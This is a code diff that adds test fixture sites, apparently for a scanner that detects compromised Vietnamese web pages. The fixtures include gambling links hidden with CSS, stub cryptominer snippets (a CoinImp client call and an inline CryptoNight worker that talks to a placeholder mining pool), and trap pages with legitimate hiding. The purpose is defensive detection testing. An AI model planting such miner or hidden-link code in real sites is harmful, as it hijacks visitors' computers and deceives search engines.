@@ -149,6 +149,76 @@ def _deep(host: str) -> dict[str, bytes]:
     return {"/index.html": page(host, body, footer=False).encode()}
 
 
+# Issue 10 item 4: links hidden by CSS rules rather than inline styles.
+SEO_LINKS = ('<a href="https://nhacai-uytin.example/">nhà cái uy tín</a> '
+             '<a href="https://casino-online.example/ca-cuoc">Cá cược bóng đá</a>')
+SITE_STYLESHEET = ("body{font-family:Arial;background:#ffffff;color:#222}\n"
+                   ".seo-links{position:absolute;left:-9999px;top:-9999px}\n.tin-tuc h2{font-size:18px}\n")
+TRAP_STYLESHEET = (
+    # The usual legitimate hiding: a screen-reader-only skip link, a dropdown shown on hover, white text on a
+    # dark banner. None of it carries gambling links, so none of it may be reported.
+    ".sr-only{position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0,0,0,0)}\n"
+    ".submenu{display:none}\n.menu li:hover .submenu{display:block}\n"
+    ".banner{background-color:#003366}\n.banner a{color:#ffffff}\n"
+)
+TRAP_CSS_BODY = (
+    '<a class="sr-only" href="#noi-dung">Chuyển đến nội dung chính</a>'
+    '<ul class="menu"><li>Dịch vụ<ul class="submenu"><li><a href="/thu-tuc.html">Thủ tục hành chính</a></li>'
+    '<li><a href="https://dichvucong.example/">Cổng Dịch vụ công quốc gia</a></li></ul></li></ul>'
+    '<div class="banner"><a href="https://baochinhphu.example/">Báo điện tử Chính phủ</a></div>'
+    '<p id="noi-dung">Tin tức và thông báo.</p>'
+)
+
+
+def _css_sheet(host: str) -> dict[str, bytes]:
+    head = '<link rel="stylesheet" href="/css/giao-dien.css">'
+    body = f'<h1>{host}</h1><p>Trang bị chèn liên kết ẩn bằng lớp CSS.</p><div class="seo-links">{SEO_LINKS}</div>'
+    return {"/index.html": page(host, body, head=head).encode(), "/css/giao-dien.css": SITE_STYLESHEET.encode()}
+
+
+def _css_block(host: str) -> dict[str, bytes]:
+    # The variant: a <style> block, a descendant selector, and text coloured like the page's background.
+    head = "<style>body{background:#fff} #chan-trang .lien-ket a{color:#FFFFFF;text-decoration:none}</style>"
+    body = (f'<h1>{host}</h1><div id="chan-trang"><p class="lien-ket">{SEO_LINKS}</p></div>')
+    return {"/index.html": page(host, body, head=head).encode()}
+
+
+def _css_trap(host: str) -> dict[str, bytes]:
+    head = '<link rel="stylesheet" href="/css/giao-dien.css">'
+    return {"/index.html": page(host, f"<h1>{host}</h1>{TRAP_CSS_BODY}", head=head).encode(),
+            "/css/giao-dien.css": TRAP_STYLESHEET.encode()}
+
+
+# Issue 10 item 9: miners after Coinhive, in a same-site script file and inline.
+COINIMP_KEY = "5c3f" * 16
+MINER_FILE = (f"(function(){{var _client = new Client.Anonymous('{COINIMP_KEY}', {{throttle: 0.3, c: 'w'}});"
+              "_client.start();})();\n")
+MINER_INLINE = (
+    "<script>var w = new Worker('/js/worker.js'); var hasher = new CryptonightWASMWrapper();"
+    'var pool = new WebSocket("wss://ws.supportxmr.example:443/"); pool.onmessage = function(m){w.postMessage(m.data)};'
+    "</script>"
+)
+TRAP_SCRIPT = ("WebAssembly.instantiateStreaming(fetch('/js/pdf.worker.wasm')).then(function(r){window.pdf=r;});\n"
+               'var chat = new WebSocket("wss://" + location.host + "/hoi-dap");\n')
+
+
+def _miner_file(host: str) -> dict[str, bytes]:
+    head = '<script src="/js/thong-ke.js"></script>'
+    return {"/index.html": page(host, f"<h1>{host}</h1><p>Thống kê truy cập.</p>", head=head).encode(),
+            "/js/thong-ke.js": MINER_FILE.encode()}
+
+
+def _miner_inline(host: str) -> dict[str, bytes]:
+    return {"/index.html": page(host, f"<h1>{host}</h1>{MINER_INLINE}").encode()}
+
+
+def _miner_trap(host: str) -> dict[str, bytes]:
+    head = '<script src="/js/app.js"></script>'
+    body = (f"<h1>{host}</h1><h2>Giá Monero và Bitcoin hôm nay</h2><p>Đồng Monero (XMR) dùng thuật toán "
+            "CryptoNight; cơ quan chức năng cảnh báo mã đào tiền ảo chèn vào trang web.</p>")
+    return {"/index.html": page(host, body, head=head).encode(), "/js/app.js": TRAP_SCRIPT.encode()}
+
+
 #: site name -> (what it shows, its pages); the home page replaces the default one.
 CONTENT_SITES: dict[str, tuple[str, Callable[[str], dict[str, bytes]]]] = {
     "content-clean": (f"{NEWS_PAGES + 2} pages, Vietnamese privacy policy with consent, form with consent checkbox",
@@ -160,6 +230,13 @@ CONTENT_SITES: dict[str, tuple[str, Callable[[str], dict[str, bytes]]]] = {
     "content-noconsent": ("personal-data form without consent, policy without consent, Google Analytics", _noconsent),
     "content-1258": ("windows-1258 pages labelled utf-8 by the server, malformed HTML", _windows_1258),
     "content-deep": ("hidden casino links after 2100 unclosed <font> tags, deeper than the parser reads", _deep),
+    "content-css-sheet": ("casino links hidden by a class of the site's own stylesheet", _css_sheet),
+    "content-css-block": ("casino links coloured like the background by a <style> descendant rule", _css_block),
+    "content-css-trap": ("legitimate CSS hiding: screen-reader skip link, hover menu, white text on a dark banner",
+                         _css_trap),
+    "content-miner-file": ("CoinImp miner in a same-site script file", _miner_file),
+    "content-miner-inline": ("inline WebAssembly CryptoNight worker talking to a pool over WebSocket", _miner_inline),
+    "content-miner-trap": ("legitimate WebAssembly and WebSocket, news about Monero", _miner_trap),
 }
 
 
